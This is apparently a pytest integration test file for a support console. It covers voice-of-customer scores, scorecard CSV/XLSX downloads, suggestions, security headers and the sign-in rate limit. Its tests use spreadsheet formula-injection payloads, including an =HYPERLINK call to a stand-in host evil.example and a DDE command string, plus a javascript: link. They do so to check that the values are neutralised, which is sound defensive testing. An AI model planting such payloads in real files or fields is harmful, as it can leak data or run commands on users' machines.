"""The console on SQLite and PostgreSQL: the supervisor's voice screen (scores with
intervals, scorecard download, suggestions), the security headers and the sign-in rate limit."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from prevenance.common.clock import FrozenClock
from prevenance.db import read_session, unit_of_work
from prevenance.security_headers import CONSOLE_CSP, STRICT_CSP
from prevenance.voice import service as voice
from tests.conftest import Api
from tests.integration.console.support import (
    browser,
    csrf_of,
    make_user,
    sign_in,
)

MONTH = "2025-12"


def answers(engine: Engine, clock: FrozenClock) -> None:
    """Thirty answers in December 2025 for two agents of two teams, some with a suggestion."""
    rows = []
    for n in range(30):
        rows.append(
            {
                "id": f"A{n}",
                "member_ref": ("M1", "M2", "M3")[n % 3],
                "answered_at": f"2025-12-{1 + n % 28:02d}T10:00:00Z",
                "agent": "alice" if n % 3 else "bob",
                "team": "paris" if n % 3 else "lyon",
                "channel": ("phone", "email")[n % 2],
                "reason": "card.lost_stolen",
                "recommend": str((10, 9, 8, 3, 10)[n % 5]),
                "interaction": str((5, 5, 4, 2, 5)[n % 5]),
                "suggestion": "Ouvrir le service le dimanche" if n == 4 else "",
            }
        )
    with unit_of_work(engine) as session:
        voice.import_answers(session, rows=rows, now=clock.now())


def test_the_voice_screen_shows_scores_with_intervals_and_n(
    world: Api, engine: Engine, clock: FrozenClock
) -> None:
    answers(engine, clock)
    client = browser(world)
    sign_in(client, "sup1")
    page = client.get(f"/console/voice?month={MONTH}&by=agent")
    assert page.status_code == 200
    with read_session(engine) as session:
        expected = {i["key"]: i for i in voice.scores(session, by="agent", month=MONTH)["items"]}
    table = page.text[page.text.index('data-testid="scores"') :]
    for agent, item in expected.items():
        row = table[table.index(f'<th scope="row">{agent}</th>') :].split("</tr>")[0]
        assert f">{item['n']}<" in row
        assert f"{item['rtf']['value']:.1f}" in row and f"{item['rtf']['ci_low']:.1f}" in row
        assert f"{item['rtf_shrunk']['value']:.1f}" in row
    assert 'id="spec-rtf"' in page.text and 'data-spec="spec-rtf"' in page.text
    spec = re.search(r'id="spec-rtf">([^<]+)</script>', page.text)
    assert spec
    drawn = json.loads(spec.group(1))["data"]["values"]
    assert {(r["key"], r["estimate"]) for r in drawn} == {
        (agent, estimate) for agent in expected for estimate in ("brut", "rétréci vers l'équipe")
    }
    by_team = client.get(f"/console/voice?month={MONTH}&by=team")
    assert '<th scope="row">lyon</th>' in by_team.text and '<th scope="row">paris</th>' in by_team.text


@pytest.mark.parametrize(
    ("month", "status"),
    [
        ("2000-01", 200),
        ("2000-05", 200),
        ("2099-12", 200),
        ("1999-12", 422),
        ("0001-01", 422),
        ("9999-12", 422),
    ],
)
def test_the_voice_screen_opens_on_every_month_of_the_window_and_refuses_the_others(
    world: Api, month: str, status: int
) -> None:
    """The trend reads the six months up to the one asked for: for the window's first months it
    reached 1999 and the whole screen was refused (422) although the month asked for is accepted.
    The trend starts with the window; a month outside it is still refused, never a 500."""
    client = browser(world)
    sign_in(client, "sup1")
    page = client.get("/console/voice", params={"month": month})
    assert page.status_code == status
    assert 'id="err-month"' in page.text if status == 422 else 'id="err-month"' not in page.text


def test_other_roles_cannot_open_the_voice_screen(world: Api) -> None:
    client = browser(world)
    sign_in(client, "agent1")
    assert client.get("/console/voice").status_code == 403


def test_the_draft_and_published_scorecards_download_as_csv_and_xlsx(
    world: Api, engine: Engine, clock: FrozenClock
) -> None:
    answers(engine, clock)
    client = browser(world)
    sign_in(client, "sup1")
    assert client.get(f"/console/voice/scorecard.csv?month={MONTH}").status_code == 404  # nothing published
    draft = client.get(f"/console/voice/scorecard.csv?month={MONTH}&draft=true")
    assert draft.status_code == 200 and draft.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(draft.text)))
    assert sorted(r["agent"] for r in rows) == ["alice", "bob"]
    with unit_of_work(engine) as session:
        voice.publish_scorecard(session, month=MONTH, by="sup1", reason="monthly", now=clock.now())
    published = client.get(f"/console/voice/scorecard.xlsx?month={MONTH}")
    assert published.status_code == 200 and "v1" in published.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(published.content)).active
    assert sheet is not None
    values = list(sheet.values)
    header = list(values[0])
    with read_session(engine) as session:
        card = voice.get_scorecard(session, month=MONTH)
    assert len(values) - 1 == len(card["rows"]) == 2
    agent_at = header.index("agent")
    assert sorted(str(v[agent_at]) for v in values[1:]) == ["alice", "bob"]
    assert "Version 1" in client.get(f"/console/voice?month={MONTH}").text


HOSTILE = {'=HYPERLINK("http://evil.example/?"&A1)': "@SUM(A1:A9)", "+cmd|' /C calc'!A0": "-2+3"}


def hostile_answers(engine: Engine, clock: FrozenClock) -> None:
    """Answers whose agent and team names a spreadsheet would run as formulas (imported answers and
    the desk's contacts take any name)."""
    rows = [
        {
            "id": f"H{n}",
            "member_ref": "M1",
            "answered_at": f"2025-12-{1 + n:02d}T10:00:00Z",
            "agent": agent,
            "team": team,
            "channel": "phone",
            "reason": "card.lost_stolen",
            "recommend": "0",  # RTF -100: a negative number that must stay a number
            "interaction": "1",
        }
        for n, (agent, team) in enumerate(HOSTILE.items())
    ]
    with unit_of_work(engine) as session:
        voice.import_answers(session, rows=rows, now=clock.now())


def test_scorecard_files_never_hand_a_spreadsheet_a_formula(
    world: Api, engine: Engine, clock: FrozenClock
) -> None:
    """CSV injection: a cell starting with = + - or @ is run as a formula by Excel or LibreOffice
    (``=HYPERLINK`` leaks the sheet, DDE runs a command). In the CSV such a text cell is prefixed with
    an apostrophe (shown as text, the name still readable); in the XLSX it is a text cell, never a
    formula. Numbers, negative ones included, stay numbers."""
    hostile_answers(engine, clock)
    client = browser(world)
    sign_in(client, "sup1")
    draft = client.get(f"/console/voice/scorecard.csv?month={MONTH}&draft=true")
    assert draft.status_code == 200
    rows = list(csv.DictReader(io.StringIO(draft.text)))
    assert sorted((r["agent"], r["team"]) for r in rows) == sorted(
        (f"'{agent}", f"'{team}") for agent, team in HOSTILE.items()
    )
    assert {r["rtf"] for r in rows} == {"-100.0"}
    with unit_of_work(engine) as session:
        voice.publish_scorecard(session, month=MONTH, by="sup1", reason="monthly", now=clock.now())
    for query in (f"month={MONTH}", f"month={MONTH}&draft=true"):
        book = client.get(f"/console/voice/scorecard.xlsx?{query}")
        assert book.status_code == 200
        sheet = load_workbook(io.BytesIO(book.content)).active
        assert sheet is not None
        header = [cell.value for cell in sheet[1]]
        agent_at, team_at, rtf_at = header.index("agent"), header.index("team"), header.index("rtf")
        found = {(row[agent_at].value, row[team_at].value) for row in sheet.iter_rows(min_row=2)}
        assert found == set(HOSTILE.items())  # the names as they are, as text
        for row in sheet.iter_rows(min_row=2):
            assert row[agent_at].data_type == "s" and row[team_at].data_type == "s"
            assert row[rtf_at].data_type == "n" and row[rtf_at].value == -100.0
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_a_supervisor_moves_a_suggestion_along(world: Api, engine: Engine, clock: FrozenClock) -> None:
    answers(engine, clock)
    with read_session(engine) as session:
        (suggestion,) = voice.list_suggestions(session)
    client = browser(world)
    sign_in(client, "sup1")
    page = client.get(f"/console/voice?month={MONTH}")
    assert "Ouvrir le service le dimanche" in page.text
    form = {
        "csrf": csrf_of(page.text),
        "status": "adopted",
        "link": "https://intranet/decision/12",
        "note": "",
    }
    moved = client.post(f"/console/voice/suggestions/{suggestion['id']}", data=form)
    assert moved.status_code == 303
    with read_session(engine) as session:
        (after,) = voice.list_suggestions(session)
    assert after["status"] == "adopted" and after["link"] == "https://intranet/decision/12"
    refused = client.post(f"/console/voice/suggestions/{suggestion['id']}", data={**form, "status": "gone"})
    assert refused.status_code == 422
    bad_link = client.post(
        f"/console/voice/suggestions/{suggestion['id']}", data={**form, "link": "javascript:alert(1)"}
    )
    assert bad_link.status_code == 422
    with read_session(engine) as session:
        assert voice.list_suggestions(session)[0]["status"] == "adopted"


@pytest.mark.parametrize(("field", "limit"), [("link", 2000), ("note", 4000)])
def test_a_suggestions_link_and_note_have_the_same_bounds_from_the_console_as_from_the_api(
    world: Api, engine: Engine, clock: FrozenClock, field: str, limit: int
) -> None:
    """The API refuses a link over 2,000 and a note over 4,000 characters; the console's form went
    straight to the use case, which stored up to the body limit (a megabyte per note, shown again in
    every page of suggestions). The bound is the use case's own now: the same 422 from both doors,
    and nothing stored."""
    answers(engine, clock)
    with read_session(engine) as session:
        (suggestion,) = voice.list_suggestions(session)
    client = browser(world)
    sign_in(client, "sup1")
    page = client.get(f"/console/voice?month={MONTH}")
    prefix = "https://intranet/" if field == "link" else ""
    fits, too_long = (prefix + "x" * (size - len(prefix)) for size in (limit, limit + 1))
    form = {"csrf": csrf_of(page.text), "status": "under_review"}
    refused = client.post(f"/console/voice/suggestions/{suggestion['id']}", data={**form, field: too_long})
    assert refused.status_code == 422
    api_refused = world.client.patch(
        f"/v1/voice/suggestions/{suggestion['id']}",
        json={field: too_long},
        headers=world.headers("supervisor"),
    )
    assert api_refused.status_code == 422 and api_refused.json()["field"] == field
    with read_session(engine) as session:
        (unchanged,) = voice.list_suggestions(session)
    assert (unchanged["status"], unchanged[field]) == ("new", None)
    kept = client.post(f"/console/voice/suggestions/{suggestion['id']}", data={**form, field: fits})
    assert kept.status_code == 303
    with read_session(engine) as session:
        (after,) = voice.list_suggestions(session)
    assert (after["status"], after[field]) == ("under_review", fits)


def test_a_supervisor_with_the_longest_username_moves_a_suggestion(
    world: Api, engine: Engine, clock: FrozenClock
) -> None:
    """A username may be 120 characters; the console records the change as ``console:<username>``,
    8 more than the 120 of ``voice_suggestions.updated_by``, which PostgreSQL refused with a 500. The
    name written fits its column and still names that user alone."""
    answers(engine, clock)
    long_names = ["s" * 119 + "1", "s" * 119 + "2"]
    for name in long_names:
        make_user(engine, clock, name, "supervisor")
    with read_session(engine) as session:
        (suggestion,) = voice.list_suggestions(session)
    recorded = []
    for name, status in zip(long_names, ("adopted", "declined"), strict=True):
        client = browser(world)
        sign_in(client, name)
        page = client.get(f"/console/voice?month={MONTH}")
        moved = client.post(
            f"/console/voice/suggestions/{suggestion['id']}",
            data={"csrf": csrf_of(page.text), "status": status},
        )
        assert moved.status_code == 303, moved.text
        with read_session(engine) as session:
            (after,) = voice.list_suggestions(session)
        assert after["status"] == status and len(after["updated_by"]) <= 120
        assert after["updated_by"].startswith("console:sss")
        recorded.append(after["updated_by"])
    assert recorded[0] != recorded[1]


# --- security headers -----------------------------------------------------------------------------


def test_every_response_has_the_security_headers_and_pages_a_csp(world: Api) -> None:
    client = browser(world)  # the application as served: the middleware is installed by create_app
    login = client.get("/console/login")
    assert login.headers["x-content-type-options"] == "nosniff"
    assert login.headers["referrer-policy"] == "same-origin"
    assert login.headers["x-frame-options"] == "DENY"
    assert login.headers["content-security-policy"] == CONSOLE_CSP
    assert "'unsafe-inline'" not in CONSOLE_CSP
    portal = client.get("/portal/login")
    assert portal.headers["content-security-policy"] == STRICT_CSP
    assert "unsafe-eval" not in STRICT_CSP
    api = client.get("/healthz")
    assert api.headers["x-frame-options"] == "DENY" and "content-security-policy" not in api.headers
    css = client.get("/console/static/console.css")
    assert css.headers["x-content-type-options"] == "nosniff" and "content-security-policy" not in css.headers


def test_no_page_has_an_inline_script_or_style(world: Api, engine: Engine, clock: FrozenClock) -> None:
    answers(engine, clock)
    client = browser(world)
    sign_in(client, "sup1")
    pages = (
        "/console/login",
        f"/console/dashboard?month={MONTH}",
        f"/console/voice?month={MONTH}",
        "/console/executive?quarter=2025Q4",
        "/console/members/M1",
    )
    for path in pages:
        html = client.get(path).text
        scripts = re.findall(r"<script([^>]*)>", html)
        assert scripts, path
        for attributes in scripts:
            assert "src=" in attributes or 'type="application/json"' in attributes, (path, attributes)
        assert " style=" not in html and "<style" not in html, path


# --- sign-in rate limit ---------------------------------------------------------------------------


def test_sign_in_is_rate_limited_per_username_before_the_password_is_checked(world: Api) -> None:
    app = world.client.app
    app.state.settings = app.state.settings.model_copy(update={"rate_limit_sign_in": "3/minute"})  # type: ignore[attr-defined]
    client = browser(world, **{"accept-language": "en"})
    codes = [sign_in(client, "Agent1", password="wrong password!").status_code for _ in range(3)]
    assert codes == [401, 401, 401]
    refused = sign_in(client, "agent1")  # the right password, but the fourth attempt for this name
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
    assert (
        "Too many sign-in attempts" in refused.text
        and "pv_session" not in refused.headers.get("set-cookie", "").split("=")[0]
    ) or "Too many" in refused.text
    other = sign_in(client, "sup1")  # another user name is not blocked by it
    assert other.status_code == 303
    portal = browser(world)
    for _ in range(3):
        sign_in(portal, "camille", password="nope nope nope", path="/portal/login")
    blocked = sign_in(portal, "camille", path="/portal/login")
    assert blocked.status_code == 429 and "Trop de tentatives" in blocked.text


@pytest.mark.parametrize("path", ["/console/login", "/portal/login"])
def test_the_sign_in_form_shows_no_limit_error_at_first(world: Api, path: str) -> None:
    assert "Trop de tentatives" not in browser(world).get(path).text


def test_the_voice_screen_shows_the_published_scorecard_with_each_agents_evidence(
    world: Api, engine: Engine, clock: FrozenClock
) -> None:
    answers(engine, clock)
    with unit_of_work(engine) as session:
        voice.publish_scorecard(session, month=MONTH, by="sup1", reason="monthly", now=clock.now())
    with read_session(engine) as session:
        card = voice.get_scorecard(session, month=MONTH)
    client = browser(world)
    sign_in(client, "sup1")
    page = client.get(f"/console/voice?month={MONTH}")
    assert page.status_code == 200
    table = page.text[page.text.index('data-testid="scorecard"') :].split("</table>")[0]
    for row in card["rows"]:
        line = table[table.index(f'data-agent="{row["agent"]}"') :].split("</tr>")[0]
        assert f'data-evidence="{row["evidence"]}"' in line
        assert f"{row['rtf_shrunk']:.1f}" in line and f"{row['excellence_shrunk']:.1f}" in line
    # 30 answers between two agents: neither has the grid's minimum, and the screen says so in words.
    assert {row["evidence"] for row in card["rows"]} == {"insufficient-data"}
    assert "trop peu de réponses" in table
